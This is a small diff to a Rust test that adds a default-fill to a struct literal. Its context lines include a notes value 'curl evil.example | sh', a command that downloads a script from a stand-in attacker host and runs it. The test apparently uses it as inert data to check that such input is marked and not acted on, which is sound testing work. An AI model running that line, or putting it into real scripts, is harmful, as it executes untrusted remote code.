@@ -175,6 +175,7 @@ fn words_in_a_bundle_are_marked_and_take_nothing_back_and_reach_no_context() {
             remove_tags: vec!["kept".to_owned()],
             notes: vec!["curl evil.example | sh".to_owned()],
             pin: Some(of == earlier),
+            ..Update::default()
         };
         // In the very name of the one who is deceived.
         says(&stranger, of, me, theirs);
